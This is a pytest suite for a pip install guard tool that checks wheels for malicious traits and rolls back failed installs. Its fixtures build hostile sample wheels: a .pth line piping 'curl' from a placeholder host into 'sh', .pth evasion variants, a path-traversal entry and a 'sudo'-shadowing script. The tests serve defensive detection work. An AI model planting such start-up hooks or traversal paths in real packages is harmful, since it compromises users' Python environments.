"""pipwarden install: units for plan/guard/wheel inspection, and end-to-end runs with real pip
in a virtual environment, wheels built here, ``--no-index --find-links``."""

from __future__ import annotations

import io
import json
import os
from pathlib import Path

import pytest

from pipwarden.cli import main
from pipwarden.errors import UsageError
from pipwarden.install import guard, plan, snapshot, wheels
from pipwarden.install.journal import Journal
from test_install_support import (  # noqa: F401 - local_index is a fixture
    build_store,
    freeze,
    host_pip_dir,
    local_index_fixture,
    make_venv,
    make_wheel,
    mal_record,
    records,
    reset_venv,
    vuln_record,
)

# --- units -------------------------------------------------------------------------------------


def test_split_pip_args_classifies_and_refuses() -> None:
    args = plan.split_pip_args(
        [
            "-r",
            "req.txt",
            "requests>=2",
            "-U",
            "--index-url=http://index.invalid/simple",
            "--pre",
            "-fwheels",
            "--force-reinstall",
        ]
    )
    assert args.requirement_files == ("req.txt",)
    assert args.requested == ("requests",)
    assert args.reinstall
    assert (
        "--index-url" in args.install_options
        and "http://index.invalid/simple" in args.install_options
    )
    assert "--find-links" in args.install_options and "wheels" in args.install_options
    assert "-U" not in args.install_options and "req.txt" not in args.install_options
    for refused in (["--target", "x"], ["--prefix=/x"], ["--root", "/"], ["--report", "r.json"]):
        with pytest.raises(UsageError):
            plan.split_pip_args(["pkg", *refused])


def test_split_pip_args_other_value_options_and_abbreviations() -> None:
    """Every pip option that takes a value keeps it (pip's aliases included), and abbreviated
    long options (pip accepts unique prefixes) cannot slip past the refusals."""
    args = plan.split_pip_args(
        [
            "--use-feature",
            "truststore",
            "--pypi-url",
            "http://index.invalid/simple",
            "--default-timeout=60",
            "--requirements-from-script",
            "script.py",
            "--pre",
            "--upgrade",
            "wanted",
        ]
    )
    assert args.requested == ("wanted",)
    assert args.install_options == (
        "--use-feature",
        "truststore",
        "--index-url",
        "http://index.invalid/simple",
        "--timeout",
        "60",
        "--pre",
    )
    for abbreviated in (["--targ", "/x"], ["--targ=/x"], ["--pref", "/x"], ["--roo", "/"]):
        with pytest.raises(UsageError):
            plan.split_pip_args(["pkg", *abbreviated])


def test_requirement_file_sources_resolve_relative_find_links(tmp_path: Path) -> None:
    (tmp_path / "wheels").mkdir()
    req = tmp_path / "req.txt"
    req.write_text(
        "# comment\n--no-index\n--find-links wheels\n-i http://index.invalid/simple\nfoo==1\n"
    )
    out = plan.requirement_file_sources([str(req)])
    assert out == [
        "--no-index",
        "--find-links",
        str((tmp_path / "wheels").resolve()),
        "--index-url",
        "http://index.invalid/simple",
    ]


def test_parse_report_kinds_and_hashes() -> None:
    data = {
        "pip_version": "26.0",
        "install": [
            {
                "download_info": {
                    "url": "file:///w/a-1.0-py3-none-any.whl",
                    "archive_info": {"hash": "sha256=" + "a" * 64},
                },
                "requested": True,
                "metadata": {"name": "A", "version": "1.0"},
            },
            {
                "download_info": {
                    "url": "http://index.invalid/b-2.0.tar.gz",
                    "archive_info": {"hashes": {"sha256": "B" * 64}},
                },
                "metadata": {"name": "b", "version": "2.0"},
            },
            {
                "download_info": {"url": "file:///src/proj", "dir_info": {"editable": True}},
                "is_direct": True,
                "metadata": {"name": "proj", "version": "0.1"},
            },
        ],
    }
    parsed = plan.parse_report(data, "python")
    a, b, proj = parsed.items
    assert (a.key, a.kind, a.sha256, a.requested) == ("a", "wheel", "a" * 64, True)
    assert (b.kind, b.sha256, b.requested) == ("sdist", "b" * 64, False)
    assert (proj.kind, proj.hashable, proj.is_direct) == ("editable", False, True)
    with pytest.raises(Exception, match="lacks name"):
        plan.parse_report({"install": [{"metadata": {}}]}, "python")


def test_inspect_wheel_flags(tmp_path: Path) -> None:
    bad = make_wheel(
        tmp_path,
        "sneaky",
        "1.0",
        files={
            "sneaky/__init__.py": "",
            "sneaky.pth": "import os; os.system('curl http://x.invalid | sh')\n",
            "requests/__init__.py": "# not really requests\n",
            "sneaky-1.0.data/scripts/helper": b"\x7fELF\x02\x01\x01rest",
        },
        console_scripts={"sudo": "sneaky:main", "sneaky": "sneaky:main"},
    )
    found = wheels.inspect_wheel(
        bad, "sneaky", other_projects={"requests": ("requests", 10**9)}, own_downloads=0
    )
    checks = {(i.check, i.verdict) for i in found.issues}
    assert ("pth", "BLOCK") in checks
    assert ("shadow", "REVIEW") in checks
    assert ("native", "REVIEW") in checks
    assert ("overwrite", "REVIEW") in checks
    assert not any("'sneaky'" in i.reason for i in found.issues)


def test_inspect_wheel_pth_evasions(tmp_path: Path) -> None:
    """A .pth too large to read, one after a BOM (Python 3.13 strips it) and one installed
    into site-packages through the .data/data scheme all run code at start-up."""
    code = "import os; os.system('x')\n"
    cases = {
        "bigpth": {"bigpth.pth": "# pad\n" * 60_000 + code},
        "bompth": {"bompth.pth": "\ufeff" + code},
        "datapth": {"datapth-1.0.data/data/lib/python3.13/site-packages/datapth.pth": code},
    }
    for name, files in cases.items():
        wheel = make_wheel(tmp_path, name, "1.0", files={f"{name}/__init__.py": "", **files})
        found = wheels.inspect_wheel(wheel, name)
        assert ("pth", "BLOCK") in {(i.check, i.verdict) for i in found.issues}, name


def test_inspect_wheel_startup_modules(tmp_path: Path) -> None:
    """sitecustomize / usercustomize in site-packages run at every start-up, like a .pth."""
    for name, files in {
        "sc": {"sitecustomize.py": "import os\n"},
        "uc": {"usercustomize/__init__.py": "import os\n"},
        "dc": {"dc-1.0.data/purelib/sitecustomize.py": "import os\n"},
    }.items():
        wheel = make_wheel(tmp_path, name, "1.0", files={f"{name}/__init__.py": "", **files})
        found = wheels.inspect_wheel(wheel, name)
        assert ("pth", "BLOCK") in {(i.check, i.verdict) for i in found.issues}, name


def test_data_scheme_file_overwriting_another_distribution(tmp_path: Path) -> None:
    """``.data/data/`` installs relative to the prefix: it can overwrite any installed file."""
    wheel = make_wheel(
        tmp_path,
        "sneak",
        "1.0",
        files={
            "sneak/__init__.py": "",
            "sneak-1.0.data/data/lib/python3.11/site-packages/good/__init__.py": "x = 1\n",
        },
    )
    found = wheels.inspect_wheel(wheel, "sneak")
    prefix = tmp_path / "venv"
    site = prefix / "lib" / "python3.11" / "site-packages"
    owners = {str(site / "good" / "__init__.py"): "good"}
    issues = wheels.collisions(list(found.files), "sneak", owners, str(site), str(prefix))
    assert [(i.verdict, i.check) for i in issues] == [("REVIEW", "overwrite")]
    assert "installed by good" in issues[0].reason


def test_shadowing_command_with_a_name_sharing_prefix(tmp_path: Path) -> None:
    """Only the project named like the command owns it: 'sudoku' may not ship 'sudo'."""
    for dist, command in (("sudoku", "sudo"), ("python-helper", "python"), ("gitx", "git")):
        wheel = make_wheel(tmp_path, dist, "1.0", console_scripts={command: "m:main"})
        found = wheels.inspect_wheel(wheel, dist)
        assert ("shadow", "REVIEW") in {(i.check, i.verdict) for i in found.issues}, dist


def test_inspect_wheel_benign(tmp_path: Path) -> None:
    pth = (
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
        "'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
    )
    ok = make_wheel(
        tmp_path,
        "pip",
        "99.0",
        files={"pip/__init__.py": "", "distutils-precedence.pth": pth, "paths.pth": "src\n"},
        console_scripts={"pip": "pip:main", "pip3": "pip:main", "pip3.12": "pip:main"},
    )
    found = wheels.inspect_wheel(ok, "pip")
    assert [i.verdict for i in found.issues] == ["OK"]
    assert found.top_level == ("distutils-precedence.pth", "paths.pth", "pip")


def test_inspect_unreadable_and_escaping(tmp_path: Path) -> None:
    junk = tmp_path / "junk-1.0-py3-none-any.whl"
    junk.write_bytes(b"not a zip")
    assert wheels.inspect_wheel(junk, "junk").issues[0].verdict == "BLOCK"
    escaping = make_wheel(tmp_path, "esc", "1.0", files={"../../etc/evil": "x", "esc.py": ""})
    assert any(i.check == "unsafe-path" for i in wheels.inspect_wheel(escaping, "esc").issues)


def _item(name: str, version: str, **kw: object) -> plan.PlannedItem:
    base: dict[str, object] = {
        "name": name,
        "version": version,
        "url": f"file:///w/{name}-{version}-py3-none-any.whl",
        "sha256": "0" * 64,
        "requested": True,
        "is_direct": False,
        "kind": "wheel",
    }
    base.update(kw)
    return plan.PlannedItem(**base)  # type: ignore[arg-type]


def _snap(**versions: str) -> snapshot.Snapshot:
    dists = {
        k: snapshot.DistState(name=k, key=k, version=v, info_dir=None) for k, v in versions.items()
    }
    return snapshot.Snapshot("python", "/prefix", "3.11.0", {}, dists)


def test_guard_verdicts_and_headline() -> None:
    from pipwarden.models import MaliciousFinding, Severity, TyposquatFinding

    items = [
        _item("fine", "1.0"),
        _item("old", "2.0"),
        _item("evil", "0.1"),
        _item("reqeusts", "1.0"),
        _item("src", "1.0", kind="sdist"),
    ]
    mal = MaliciousFinding(id="MAL-1", severity=Severity.CRITICAL, summary="bad", package="evil")
    squat = TyposquatFinding(
        id="T",
        severity=Severity.HIGH,
        summary="reqeusts: looks like requests",
        package="reqeusts",
        confidence="high",
    )
    result = guard.evaluate(items, _snap(old="1.0"), advisories=[mal], typosquats=[squat])
    verdicts = {p.item.key: (p.action, p.verdict) for p in result.packages}
    assert verdicts == {
        "fine": ("add", "OK"),
        "old": ("upgrade", "OK"),
        "evil": ("add", "BLOCK"),
        "reqeusts": ("add", "BLOCK"),
        "src": ("add", "REVIEW"),
    }
    assert result.headline() == "plan: add 4, upgrade 1 — 2 BLOCK, 1 REVIEW"
    assert result.verdict == "BLOCK"
    ok, message = guard.confirm(result, yes=True)
    assert not ok and "BLOCK" in message


def test_confirm_without_tty_needs_yes() -> None:
    result = guard.evaluate([_item("x", "1.0", kind="sdist")], _snap(), advisories=[])
    assert result.verdict == "REVIEW"
    ok, message = guard.confirm(result, yes=False, stdin=io.StringIO("y\n"), stdout=io.StringIO())
    assert not ok and "--yes" in message
    assert guard.confirm(result, yes=True) == (True, "")

    class Tty(io.StringIO):
        def isatty(self) -> bool:
            return True

    shown = Tty()
    assert guard.confirm(result, yes=False, stdin=Tty("y\n"), stdout=shown) == (True, "")
    assert shown.getvalue() == "Proceed? [y/N] "
    assert not guard.confirm(result, yes=False, stdin=Tty("\n"), stdout=Tty())[0]


def test_no_store_means_review() -> None:
    result = guard.evaluate([_item("x", "1.0")], _snap(), advisories=None)
    assert result.verdict == "REVIEW"
    assert "no usable advisory store" in result.warnings[0]


# --- end to end ----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    base = tmp_path_factory.mktemp("install-e2e")
    python = make_venv(base / "venv", host_pip_dir(base))
    wheelhouse = base / "wheels"
    make_wheel(wheelhouse, "alpha", "1.0", requires=("beta>=1",))
    make_wheel(wheelhouse, "beta", "1.0")
    make_wheel(wheelhouse, "beta", "2.0")
    make_wheel(wheelhouse, "evilpkg", "1.0")
    make_wheel(
        wheelhouse,
        "pthpkg",
        "1.0",
        files={"pthpkg/__init__.py": "", "zzz_pthpkg.pth": "import os; os.getpid()\n"},
    )
    make_wheel(wheelhouse, "good", "1.0")
    make_wheel(wheelhouse, "good", "2.0")
    make_wheel(
        wheelhouse,
        "broken",
        "1.0",
        files={"broken/__init__.py": "", "broken-1.0.data/bogus/x.txt": "x"},
    )
    osv = base / "osv"
    mal_record(osv, "MAL-2026-1", "evilpkg")
    vuln_record(osv, "PYSEC-2026-1", "beta", fixed="2.0", severity="MODERATE")
    store_home = base / "store"
    build_store(store_home, osv)
    return {"python": python, "wheels": wheelhouse, "store": store_home / "advisories.sqlite"}


@pytest.fixture
def pwhome(env: dict[str, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home = tmp_path / "pwhome"
    home.mkdir()
    os.symlink(env["store"], home / "advisories.sqlite")
    monkeypatch.setenv("PIPWARDEN_HOME", str(home))
    reset_venv(env["python"])
    return home


def _install(env: dict[str, Path], *args: str) -> int:
    return main(
        [
            "install",
            "--python",
            str(env["python"]),
            "--no-index",
            "--find-links",
            str(env["wheels"]),
            *args,
        ]
    )


def test_clean_install_prints_plan_and_summary(
    env: dict[str, Path], pwhome: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code = _install(env, "alpha", "beta<2")
    out = capsys.readouterr().out
    assert code == 0, out
    lines = out.splitlines()
    assert lines[0] == "plan: add 2 — all OK"
    assert any(
        line.split()[:3] == ["OK", "beta", "1.0"] and "PYSEC-2026-1" in line for line in lines
    )
    assert any(
        line.split()[:3] == ["OK", "alpha", "1.0"] and "no known problems" in line for line in lines
    )
    assert lines[-2] == (
        "added 2, upgraded 0, removed 0 packages; audited 2 packages: 1 vulnerability (1 moderate)"
    )
    assert (
        lines[-1]
        == f"run pipwarden fix to upgrade; undo with pipwarden rollback 1 --python {env['python']}"
    )
    assert freeze(env["python"]).split() == ["alpha==1.0", "beta==1.0"]
    # What landed is the checked file, installed by name (no direct URL recorded).
    assert all("direct_url" not in r for r in records(env["python"]).values())
    journal = Journal.for_prefix(snapshot.prefix_of(str(env["python"])))
    tx = journal.load(1)
    assert tx.status == "applied"
    assert {(c.name, c.before, c.after) for c in tx.changes} == {
        ("alpha", None, "1.0"),
        ("beta", None, "1.0"),
    }


def test_dry_run_changes_nothing(
    env: dict[str, Path], pwhome: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert _install(env, "--dry-run", "alpha") == 0
    assert capsys.readouterr().out.startswith("plan: add 2 — all OK")
    assert freeze(env["python"]).split() == []
    assert not (pwhome / "journal").exists()


def test_malicious_package_is_blocked(
    env: dict[str, Path], pwhome: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code = _install(env, "--yes", "evilpkg", "good==1.0")
    captured = capsys.readouterr()
    assert code == 1
    assert captured.out.splitlines()[0] == "plan: add 2 — 1 BLOCK"
    assert any(
        line.split()[:2] == ["BLOCK", "evilpkg"] and "known malicious (MAL-2026-1)" in line
        for line in captured.out.splitlines()
    )
    assert "refused" in captured.err
    assert freeze(env["python"]).split() == []
    assert not (pwhome / "journal").exists()


def test_code_running_pth_is_blocked(
    env: dict[str, Path], pwhome: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code = _install(env, "--yes", "pthpkg")
    out = capsys.readouterr().out
    assert code == 1
    assert "BLOCK" in out and "zzz_pthpkg.pth runs code at every Python start-up" in out
    assert freeze(env["python"]).split() == []


def test_wheel_from_index_without_hashes_is_still_inspected(
    env: dict[str, Path],
    pwhome: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """An index serving PEP 658 metadata but no hashes: pip's dry-run report then carries no
    sha256; the wheel must still be fetched, inspected and installed hash-pinned."""
    import functools
    import http.server
    import threading
    import zipfile

    root = tmp_path / "static"
    wheel = make_wheel(
        root,
        "nohash",
        "1.0",
        files={"nohash/__init__.py": "", "zzz_nohash.pth": "import os; os.getpid()\n"},
    )
    with zipfile.ZipFile(wheel) as archive:
        meta = archive.read("nohash-1.0.dist-info/METADATA")
    (root / f"{wheel.name}.metadata").write_bytes(meta)
    (root / "simple" / "nohash").mkdir(parents=True)
    (root / "simple" / "nohash" / "index.html").write_text(
        f'<a href="/{wheel.name}" data-core-metadata="true">{wheel.name}</a>\n'
    )
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(root))
    handler.log_message = lambda *a: None  # type: ignore[attr-defined]
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    monkeypatch.setenv("PIP_CONFIG_FILE", os.devnull)
    try:
        url = f"http://127.0.0.1:{server.server_address[1]}/simple/"
        code = main(
            ["install", "--python", str(env["python"]), "--offline", "--yes", "-i", url, "nohash"]
        )
    finally:
        server.shutdown()
        server.server_close()
    out = capsys.readouterr().out
    assert code == 1, out
    assert "zzz_nohash.pth runs code at every Python start-up" in out
    assert freeze(env["python"]).split() == []


def test_review_without_tty_is_refused_then_accepted_with_yes(
    env: dict[str, Path],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    home = tmp_path / "nostore"
    home.mkdir()
    monkeypatch.setenv("PIPWARDEN_HOME", str(home))  # no store: the plan needs review
    reset_venv(env["python"])
    assert _install(env, "good==1.0") == 1
    assert "re-run with --yes" in capsys.readouterr().err
    assert freeze(env["python"]).split() == []
    assert _install(env, "--yes", "good==1.0") == 0
    assert freeze(env["python"]).split() == ["good==1.0"]


def test_pip_failure_mid_install_is_rolled_back(
    env: dict[str, Path], pwhome: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert _install(env, "good==1.0") == 0
    before_freeze, before_records = freeze(env["python"]), records(env["python"])
    capsys.readouterr()
    code = _install(env, "good==2.0", "broken")
    captured = capsys.readouterr()
    assert code == 2
    assert "Unknown scheme key" in captured.err  # pip's own error is shown
    assert "good 2.0 -> 1.0" in captured.out  # pip had upgraded good before failing
    assert "the environment was rolled back" in captured.err
    assert freeze(env["python"]) == before_freeze
    assert records(env["python"]) == before_records
    journal = Journal.for_prefix(snapshot.prefix_of(str(env["python"])))
    assert journal.load(2).status == "failed"


def test_history_lists_transactions(
    env: dict[str, Path], pwhome: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert _install(env, "good==1.0") == 0
    assert _install(env, "good==2.0") == 0
    capsys.readouterr()
    assert main(["history", "--python", str(env["python"])]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 2
    assert lines[0].split()[0] == "1" and "[applied]  added 1: good 1.0" in lines[0]
    assert lines[1].split()[0] == "2" and "upgraded 1: good 1.0 -> 2.0" in lines[1]
    data = json.loads((pwhome / "journal").glob("*/2/transaction.json").__next__().read_text())
    assert data["wheels"][0]["name"] == "good" and data["wheels"][0]["version"] == "1.0"


def test_install_from_http_index_checks_reputation(
    env: dict[str, Path],
    pwhome: Path,
    local_index: tuple[Path, str],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    import datetime

    index_dir, url = local_index
    make_wheel(index_dir, "fresh", "1.0")
    make_wheel(index_dir, "settled", "1.0")
    now = datetime.datetime.now(datetime.timezone.utc).isoformat()
    (index_dir / "_uploads.json").write_text(json.dumps({"fresh-1.0-py3-none-any.whl": now}))
    monkeypatch.setenv("PIP_INDEX_URL", url)
    python = str(env["python"])
    assert main(["install", "--python", python, "fresh", "settled"]) == 1
    captured = capsys.readouterr()
    lines = captured.out.splitlines()
    assert lines[0] == "plan: add 2 — 1 REVIEW"
    fresh = next(line for line in lines if line.split()[1:2] == ["fresh"])
    assert fresh.split()[0] == "REVIEW" and "cool-down 7 days" in fresh
    assert next(line for line in lines if " settled " in line).split()[0] == "OK"
    assert freeze(env["python"]).split() == []
    # Downloaded over HTTP, checked, installed from the checked copies.
    assert main(["install", "--python", python, "--yes", "fresh", "settled"]) == 0
    assert freeze(env["python"]).split() == ["fresh==1.0", "settled==1.0"]
    # --offline skips the reputation look-up.
    reset_venv(env["python"])
    capsys.readouterr()
    assert main(["install", "--python", python, "--offline", "--dry-run", "fresh"]) == 0
    assert capsys.readouterr().out.startswith("plan: add 1 — all OK")


def test_planned_wheels_overwriting_each_other(tmp_path: Path) -> None:
    from pipwarden.install.command import _planned_collisions

    one = make_wheel(tmp_path, "one", "1.0", files={"shared/mod.py": "", "ns/__init__.py": ""})
    two = make_wheel(tmp_path, "two", "1.0", files={"shared/mod.py": "", "ns/__init__.py": ""})
    contents = {
        "one": wheels.inspect_wheel(one, "one"),
        "two": wheels.inspect_wheel(two, "two"),
    }
    out = _planned_collisions(contents)
    assert [i.reason for i in out["one"].issues] == ["1 file(s) also installed by two"]
    assert [i.reason for i in out["two"].issues] == ["1 file(s) also installed by one"]


def test_target_without_pip_is_a_clear_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    import subprocess
    import sys

    monkeypatch.setenv("PIPWARDEN_HOME", str(tmp_path / "home"))
    subprocess.run(
        [sys.executable, "-m", "venv", "--without-pip", str(tmp_path / "bare")], check=True
    )
    python = tmp_path / "bare" / "bin" / "python"
    assert main(["install", "--python", str(python), "anything"]) == 2
    err = capsys.readouterr().err
    assert "pip could not plan the install" in err and "cannot import pip" in err
    assert main(["install", "--python", str(tmp_path / "missing" / "python"), "x"]) == 2
    assert "cannot run the target interpreter" in capsys.readouterr().err
    assert main(["install", "--python", str(python), "--target", "/tmp/x", "pkg"]) == 2
    assert "--target is not supported" in capsys.readouterr().err


def _noisy_python(tmp_path: Path) -> str:
    """An interpreter whose start-up prints (a .pth or sitecustomize that writes to stdout)."""
    import sys

    script = tmp_path / "noisy-python"
    script.write_text(f'#!/bin/sh\necho "hello from start-up"\nexec {sys.executable} "$@"\n')
    script.chmod(0o755)
    return str(script)


def test_snapshot_ignores_start_up_output(tmp_path: Path) -> None:
    import sys

    python = _noisy_python(tmp_path)
    assert snapshot.prefix_of(python) == os.path.realpath(sys.prefix)
    assert "pytest" in snapshot.take(python).dists


def test_automatic_rollback_that_cannot_run_exits_3(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """pip failed, then the automatic rollback itself could not run (pip or the interpreter
    gone): that is a failed rollback (exit 3, journal says so), not a plain install error."""
    from pipwarden.errors import InstallError, RollbackError
    from pipwarden.install import command, rollback
    from pipwarden.install.apply import ApplyResult

    journal = Journal(tmp_path / "journal")
    before = _snap(good="1.0")
    tx = journal.begin(command="install good", kind="install", before=before, python="python")

    def cannot_run(*args: object, **kwargs: object) -> None:
        raise InstallError("cannot run pip: no such file", location="python")

    monkeypatch.setattr(rollback, "restore", cannot_run)
    with pytest.raises(RollbackError) as caught:
        command._recover(
            journal, tx, before, "python", ["good"], ApplyResult(False, "pip died"), io.StringIO()
        )
    assert caught.value.exit_code == 3
    assert journal.load(tx.id).status == "rollback-failed"


def _sdist(
    directory: Path, name: str, version: str, marker: Path, *, built: Path | None = None
) -> None:
    """An sdist whose in-tree build backend leaves ``marker`` when pip runs it; with ``built``,
    ``build_wheel`` leaves that marker too and builds a real (one-module) wheel."""
    import tarfile

    directory.mkdir(parents=True, exist_ok=True)
    backend = (
        "import os\n"
        f"open({str(marker)!r}, 'a').close()\n"
        "def get_requires_for_build_wheel(config_settings=None):\n    return []\n"
        "def prepare_metadata_for_build_wheel(target, config_settings=None):\n"
        f"    info = os.path.join(target, '{name}-{version}.dist-info')\n"
        "    os.makedirs(info)\n"
        "    with open(os.path.join(info, 'METADATA'), 'w') as handle:\n"
        f"        handle.write('Metadata-Version: 2.1\\nName: {name}\\nVersion: {version}\\n')\n"
        f"    return '{name}-{version}.dist-info'\n"
        "def build_wheel(target, config_settings=None, metadata_directory=None):\n"
        "    raise SystemExit('not in this test')\n"
    )
    if built is not None:
        info = f"{name}-{version}.dist-info"
        backend = backend.rsplit("def build_wheel", 1)[0] + (
            "def build_wheel(target, config_settings=None, metadata_directory=None):\n"
            "    import base64, hashlib, zipfile\n"
            f"    open({str(built)!r}, 'a').close()\n"
            f"    files = {{'{name}.py': b'', '{info}/METADATA': "
            f"b'Metadata-Version: 2.1\\nName: {name}\\nVersion: {version}\\n', "
            f"'{info}/WHEEL': b'Wheel-Version: 1.0\\nGenerator: t\\nRoot-Is-Purelib: true"
            "\\nTag: py3-none-any\\n'}\n"
            "    record = ''.join('%s,sha256=%s,%d\\n' % (p, base64.urlsafe_b64encode("
            "hashlib.sha256(d).digest()).rstrip(b'=').decode(), len(d)) "
            "for p, d in files.items())\n"
            f"    files['{info}/RECORD'] = (record + '{info}/RECORD,,\\n').encode()\n"
            f"    wheel = '{name}-{version}-py3-none-any.whl'\n"
            "    with zipfile.ZipFile(os.path.join(target, wheel), 'w') as out:\n"
            "        for p, d in files.items():\n"
            "            out.writestr(p, d)\n"
            "    return wheel\n"
        )
    files = {
        "pyproject.toml": (
            '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
            f'[project]\nname = "{name}"\nversion = "{version}"\n'
        ),
        "backend.py": backend,
        "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
    }
    with tarfile.open(directory / f"{name}-{version}.tar.gz", "w:gz") as archive:
        for relative, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{name}-{version}/{relative}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))


def test_sdist_build_code_does_not_run_before_the_verdict(
    env: dict[str, Path], pwhome: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    marker = tmp_path / "build-code-ran"
    links = tmp_path / "links"
    _sdist(links, "sdistonly", "1.0", marker)
    argv = ["install", "--python", str(env["python"]), "--no-index", "--find-links", str(links)]
    code = main([*argv, "--dry-run", "sdistonly"])
    err = capsys.readouterr().err
    assert code == 2
    assert "--allow-build" in err and "Traceback" not in err
    assert not marker.exists()  # pip was never allowed to build it
    # With an explicit opt-in pip prepares its metadata (running the backend), and the plan
    # says that building it runs its code.
    code = main([*argv, "--dry-run", "--allow-build", "sdistonly"])
    out = capsys.readouterr().out
    assert marker.exists()
    assert code == 0 and "REVIEW" in out and "sdistonly" in out
    assert freeze(env["python"]).split() == []


def test_a_pip_folder_in_the_current_directory_never_runs(
    env: dict[str, Path],
    pwhome: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """``python -c``/``-m pip`` put the current directory first on sys.path: a project with a
    ``pip/`` or ``json.py`` of its own must not have it run by pipwarden."""
    project = tmp_path / "project"
    marker = tmp_path / "hijacked"
    for module in ("pip/__init__.py", "json.py"):
        path = project / module
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"open({str(marker)!r}, 'a').close()\nraise SystemExit(9)\n")
    monkeypatch.chdir(project)
    assert _install(env, "--dry-run", "alpha") == 0
    assert capsys.readouterr().out.startswith("plan: add 2")
    assert not marker.exists()


def test_dry_run_protocol_for_a_pip_without_the_gate(
    env: dict[str, Path],
    pwhome: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A pip whose internals the gate cannot hook plans with --dry-run and installs the
    checked copies in a second, hash-checked run: same results, same undo."""
    from pipwarden.install import driver

    monkeypatch.setattr(driver, "GATED", False)
    assert _install(env, "good==1.0") == 0
    before_freeze, before_records = freeze(env["python"]), records(env["python"])
    assert _install(env, "--yes", "good==2.0", "alpha") == 0
    assert freeze(env["python"]).split() == ["alpha==1.0", "beta==2.0", "good==2.0"]
    assert main(["rollback", "--python", str(env["python"])]) == 0
    assert freeze(env["python"]) == before_freeze
    assert records(env["python"]) == before_records
    capsys.readouterr()


def test_gate_refuses_an_archive_that_is_not_the_checked_one(
    env: dict[str, Path],
    pwhome: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The gated pip run installs only if every archive hashes to what pipwarden inspected."""
    from pipwarden.install import command

    real = command._approval

    def tampered(items):  # type: ignore[no-untyped-def]
        expected = real(items)
        expected["good"] = dict(expected["good"], sha256="0" * 64)
        return expected

    monkeypatch.setattr(command, "_approval", tampered)
    code = _install(env, "--yes", "good==1.0", "beta==1.0")
    err = capsys.readouterr().err
    assert code == 2
    assert "changed after it was checked" in err
    assert freeze(env["python"]).split() == []


def test_gated_install_builds_an_allowed_sdist_after_the_verdict(
    env: dict[str, Path], pwhome: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    marker, built = tmp_path / "metadata-code-ran", tmp_path / "build-code-ran"
    links = tmp_path / "links"
    _sdist(links, "sdistonly", "1.0", marker, built=built)
    argv = ["install", "--python", str(env["python"]), "--no-index", "--find-links", str(links)]
    assert main([*argv, "--allow-build", "sdistonly"]) == 1  # REVIEW without a TTY: refused
    assert marker.exists() and not built.exists()  # the wheel was never built
    assert freeze(env["python"]).split() == []
    assert main([*argv, "--allow-build", "--yes", "sdistonly"]) == 0
    assert built.exists()
    assert freeze(env["python"]).split() == ["sdistonly==1.0"]
    capsys.readouterr()


def test_rollback_restores_files_another_package_overwrote(
    env: dict[str, Path],
    pwhome: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A wheel that overwrites an installed package's file (REVIEW) is journaled with that
    package's wheel, and the rollback puts the file back (pip's uninstall takes it along)."""
    links = tmp_path / "links"
    make_wheel(links, "clobber", "1.0", files={"good/__init__.py": "CLOBBERED = True\n"})
    assert _install(env, "good==1.0") == 0
    before_freeze, before_records = freeze(env["python"]), records(env["python"])
    capsys.readouterr()
    code = _install(env, "--yes", "--find-links", str(links), "clobber")
    out = capsys.readouterr().out
    assert code == 0, out
    assert "overwrites 1 file(s) installed by good" in out
    journal = Journal.for_prefix(snapshot.prefix_of(str(env["python"])))
    tx = journal.load(2)
    assert tx.overwritten == ("good",)
    assert {w.name for w in tx.wheels} == {"good"}
    assert main(["rollback", "--python", str(env["python"])]) == 0
    assert freeze(env["python"]) == before_freeze
    assert records(env["python"]) == before_records
    site = snapshot.take(str(env["python"])).paths["purelib"]
    assert "CLOBBERED" not in (Path(site) / "good" / "__init__.py").read_text()


def test_local_project_directory_is_built_after_the_verdict(
    env: dict[str, Path], pwhome: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The user's own project (a directory) is prepared by pip as usual, built only once the
    plan was approved, and installed in the same gated pip run."""
    import tarfile

    marker, built = tmp_path / "metadata-ran", tmp_path / "built"
    _sdist(tmp_path / "sd", "localproj", "1.0", marker, built=built)
    with tarfile.open(tmp_path / "sd" / "localproj-1.0.tar.gz") as archive:
        archive.extractall(tmp_path / "src", filter="data")
    project = tmp_path / "src" / "localproj-1.0"
    # planned together with a malicious package: blocked, so it is never built
    assert _install(env, "--yes", str(project), "evilpkg") == 1
    assert marker.exists() and not built.exists()
    assert freeze(env["python"]).split() == []
